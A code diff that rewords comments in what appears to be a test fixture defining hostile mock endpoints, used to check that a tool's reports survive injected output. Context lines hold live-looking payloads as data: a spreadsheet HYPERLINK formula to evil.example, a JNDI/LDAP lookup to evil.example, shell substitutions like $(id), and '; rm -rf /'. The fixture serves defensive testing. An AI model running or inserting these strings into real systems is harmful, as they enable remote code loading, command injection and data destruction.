@@ -1,6 +1,6 @@
 /**
- * Endpoints whose words are hostile: to terminals, browsers, XML, spreadsheets, CI and whoever reads a report. They
- * accept everything, so that each answer stands in the report.
+ * Endpoints whose words are hostile: to terminals, browsers, XML, spreadsheets, CI and the people who read a report. They
+ * accept everything, so that each answer is in the report.
  */
 import { createServer } from 'node:net';
 import { listen } from '../../../endpoints/listen.ts';
@@ -46,7 +46,7 @@ const CSV = '=HYPERLINK("http://evil.example";"x")\n+1+1\n-2+3\n@SUM(A1)\n\t=1\n
 // biome-ignore lint/suspicious/noTemplateCurlyInString: the braces are for somebody else's templates
 const LOGS = '${jndi:ldap://evil.example/a} %n%s%x {{7*7}} ${7*7} $(id) `id` ; rm -rf / \'"';
 
-/** Sends back all that it was sent; the credentials may stand in no report. */
+/** Sends back everything it received; no report may contain the credentials. */
 const echo: Behaviour = {
   name: 'echoes-credentials',
   what: 'accepts, and sends back the request with its credentials, also reversed, in hexadecimal and cut in half',
@@ -78,10 +78,10 @@ const echo: Behaviour = {
 export const TEXTS: readonly Behaviour[] = [
   saying('says-ansi', 'speaks in ANSI escapes: colours, cursor, window title, links', ANSI),
   saying('says-html', 'speaks HTML with scripts', HTML),
-  saying('says-xml', 'speaks XML that ends what it stands in, and an entity', XML),
+  saying('says-xml', 'answers XML that closes the surrounding element, and an entity', XML),
   saying('says-bidi', 'speaks in directional overrides, zero-width and invisible characters', BIDI),
   saying('says-emoji', 'speaks in joined emoji, wide characters and heaps of marks', EMOJI),
-  saying('says-bad-utf8', 'speaks in bytes that are no UTF-8', BAD_UTF8),
+  saying('says-bad-utf8', 'answers bytes that are not UTF-8', BAD_UTF8),
   saying('says-controls', 'speaks in every control character', CONTROLS),
   saying('says-workflow-commands', 'speaks the commands of CI systems', CI),
   saying('says-markdown', 'speaks Markdown', MARKDOWN),
